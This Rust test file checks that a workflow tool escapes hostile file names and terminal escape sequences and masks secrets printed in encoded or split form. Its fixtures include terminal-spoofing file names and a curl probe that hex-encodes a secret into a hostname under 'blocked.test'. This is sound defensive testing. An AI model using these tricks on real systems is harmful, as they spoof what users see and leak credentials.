//! Output hygiene end to end (issue 19 #12, #13) on dockerd and Podman: a
//! hostile file name, node output and log line reach `iterion files`,
//! `events`, `logs` and the live run view escaped (JSON stays exact), and a
//! secret a node prints encoded (base64 in every flavour, hex, upper case)
//! or split over lines and chunks is masked in the logs, the stderr tail,
//! the node output and the events — a blocked host name included — while
//! ordinary output stays readable.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

use crate::support::{Engine, Sandbox, busybox, of_type, one, slim};

/// Every control character but the line feed that ends lines.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| *c != '\n' && (c.is_control() || *c == '\u{202e}'))
        .collect()
}

const FORGED: &str = "a.txt  1  0000  stored\nforged.txt";

fn hostile_names() -> String {
    format!(
        r#"tool drop_files:
  command: `cd "$ITERION_ARTIFACT_FILES_DIR" && printf ok > report.txt && printf x > "$(printf 'a.txt  1  0000  stored\nforged.txt')" && printf y > "$(printf '\033[2J\033[31mred\342\200\256txt.exe')" && printf 'visible line\n\033]0;pwned\007\033[2Jcleared\rfake line\n'`

workflow hostile:
  sandbox:
    image: "{}"
    host_state: none
  entry: drop_files
  drop_files -> done
"#,
        busybox()
    )
}

#[test]
fn hostile_names_and_output_reach_humans_escaped_and_json_exact() {
    for engine in Engine::ALL {
        let sb = Sandbox::new(engine);
        let file = sb.write("hostile.iter", &hostile_names());
        let r = sb.run(&file, &[]);
        assert_eq!(r.code, Some(0), "{engine:?}: {}", r.stderr);
        assert_eq!(
            raw_controls(&r.stderr),
            Vec::<char>::new(),
            "{engine:?}: live view"
        );
        let run_id = r.run_id();

        let human = sb.iterion(&["files", &run_id]);
        assert!(human.status.success());
        let human = String::from_utf8_lossy(&human.stdout).into_owned();
        assert_eq!(
            raw_controls(&human),
            Vec::<char>::new(),
            "{engine:?}: {human:?}"
        );
        // Header, three files, the drain line: the forged row is not a row.
        assert_eq!(human.lines().count(), 5, "{engine:?}: {human}");
        assert!(
            human
                .lines()
                .any(|l| l.starts_with("a.txt  1  0000  stored\\nforged.txt")),
            "{engine:?}: {human}"
        );
        assert!(
            human.contains("\\x1b[2J\\x1b[31mred\\u{202e}txt.exe"),
            "{human}"
        );
        assert!(
            human.lines().any(|l| l.starts_with("report.txt ")),
            "{human}"
        );

        let json = sb.files(&run_id);
        let mut paths: Vec<String> = json["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["path"].as_str().unwrap().to_owned())
            .collect();
        paths.sort();
        assert_eq!(
            paths,
            [
                "\u{1b}[2J\u{1b}[31mred\u{202e}txt.exe".to_owned(),
                FORGED.to_owned(),
                "report.txt".to_owned()
            ],
            "{engine:?}: JSON keeps names exact"
        );

        for verb in ["logs", "events"] {
            let out = sb.iterion(&[verb, &run_id]);
            assert!(out.status.success());
            let text = String::from_utf8_lossy(&out.stdout).into_owned();
            assert_eq!(
                raw_controls(&text),
                Vec::<char>::new(),
                "{engine:?} {verb}: {text:?}"
            );
        }
        let logs = String::from_utf8_lossy(&sb.iterion(&["logs", &run_id]).stdout).into_owned();
        assert!(logs.contains("visible line"), "{logs}");
        assert!(
            logs.contains("\\x1b]0;pwned\\x07\\x1b[2Jcleared\\rfake line"),
            "{logs}"
        );
    }
}

const SECRET: &str = "e2e-Tok3n_9f2c7a41b8d5";

fn leaky() -> String {
    format!(
        r#"secrets:
  API_TOKEN:
    value: "${{OUTPUT_E2E_SECRET}}"

tool leak:
  command: |
    S="$API_TOKEN"
    echo "hello-visible"
    printf '%s' "$S" | base64
    printf '%s' "$S" | base64 | tr -d '='
    printf '%s' "$S" | base64 | tr '+/' '-_' | tr -d '='
    printf 'Authorization: Basic %s\n' "$(printf 'user:%s' "$S" | base64)"
    printf '%s' "$S" | od -An -tx1 | tr -d ' \n'; echo
    printf '%s' "$S" | od -An -tx1 | tr -d ' \n' | tr a-f A-F; echo
    printf '%s\n' "$S" | tr a-z A-Z
    printf '%s\n%s\n' "${{S:0:9}}" "${{S:9}}"
    printf '%s' "${{S:0:5}}"; sleep 0.5; printf '%s\n' "${{S:5}}"
    printf '%s' "$S" | base64 | tr -d '\n' >&2; echo >&2
    curl -s -m 5 "http://$(printf '%s' "$S" | od -An -tx1 | tr -d ' \n').blocked.test/" || true
    printf 'last %s\n' "$(printf '%s' "$S" | base64)"

tool fail_loud:
  command: `printf '%s\n' "$API_TOKEN" | tr a-z A-Z >&2; exit 3`

workflow leaky:
  sandbox:
    image: "{}"
    host_state: none
    network:
      mode: allowlist
      rules: ["allowed.test"]
  entry: leak
  leak -> fail_loud
  fail_loud -> done
"#,
        slim()
    )
}

/// Every form of the secret the workflow prints.
fn forms() -> Vec<String> {
    let hex = SECRET
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect::<String>();
    vec![
        SECRET.to_owned(),
        SECRET.to_uppercase(),
        STANDARD.encode(SECRET),
        STANDARD.encode(SECRET).trim_end_matches('=').to_owned(),
        URL_SAFE_NO_PAD.encode(SECRET),
        hex.clone(),
        hex.to_uppercase(),
        // What is left of `user:SECRET` once the encoded prefix is removed.
        STANDARD.encode(format!("user:{SECRET}"))[8..].to_owned(),
        SECRET[..9].to_owned(),
        SECRET[9..].to_owned(),
        SECRET[5..].to_owned(),
    ]
}

#[test]
fn encoded_and_split_secrets_are_masked_everywhere() {
    for engine in Engine::ALL {
        let sb = Sandbox::new(engine).with_env("OUTPUT_E2E_SECRET", SECRET);
        let file = sb.write("leaky.iter", &leaky());
        let r = sb.run(&file, &[]);
        // `fail_loud` fails the run on purpose: its stderr tail is checked.
        assert_eq!(r.code, Some(1), "{engine:?}: {}", r.stderr);
        assert_eq!(
            r.failure_code(),
            Some("NODE_FAILED"),
            "{engine:?}: {}",
            r.stderr
        );
        let run_id = r.run_id();
        let events_json =
            String::from_utf8_lossy(&sb.iterion(&["events", &run_id, "--json"]).stdout)
                .into_owned();
        let events_human =
            String::from_utf8_lossy(&sb.iterion(&["events", &run_id]).stdout).into_owned();
        let logs = String::from_utf8_lossy(&sb.iterion(&["logs", &run_id]).stdout).into_owned();
        for (what, text) in [
            ("events --json", &events_json),
            ("events", &events_human),
            ("logs", &logs),
            ("run stderr", &r.stderr),
        ] {
            for form in forms() {
                assert!(
                    !text.contains(&form),
                    "{engine:?} {what}: {form:?} leaked:\n{text}"
                );
            }
        }
        assert!(logs.contains("hello-visible"), "{engine:?}: {logs}");
        // Each printed form left a mask where it was (ten lines of stdout
        // and the split ones on both halves).
        assert!(
            logs.matches("[REDACTED]").count() >= 11,
            "{engine:?}: {logs}"
        );
        let events = sb.events(&run_id);
        // Without a schema the whole stdout is the node's output.
        let output = events
            .iter()
            .find(|e| e["type"] == "node_finished" && e["node_id"] == "leak")
            .and_then(|e| e["data"]["output"]["result"].as_str())
            .unwrap_or("")
            .to_owned();
        assert!(output.contains("hello-visible"), "{engine:?}: {output}");
        assert!(output.contains("last [REDACTED]"), "{engine:?}: {output}");
        let blocked = of_type(&events, "network_blocked");
        assert!(!blocked.is_empty(), "{engine:?}: the probe was not blocked");
        assert!(
            blocked[0]["data"]["host"]
                .as_str()
                .unwrap_or("")
                .starts_with("[REDACTED]"),
            "{engine:?}: {}",
            blocked[0]
        );
        let failed = one(&events, "node_failed");
        assert_eq!(failed["node_id"], "fail_loud");
        assert!(
            failed["data"]["stderr_tail"]
                .as_str()
                .unwrap_or("")
                .contains("[REDACTED]"),
            "{engine:?}: {failed}"
        );
    }
}
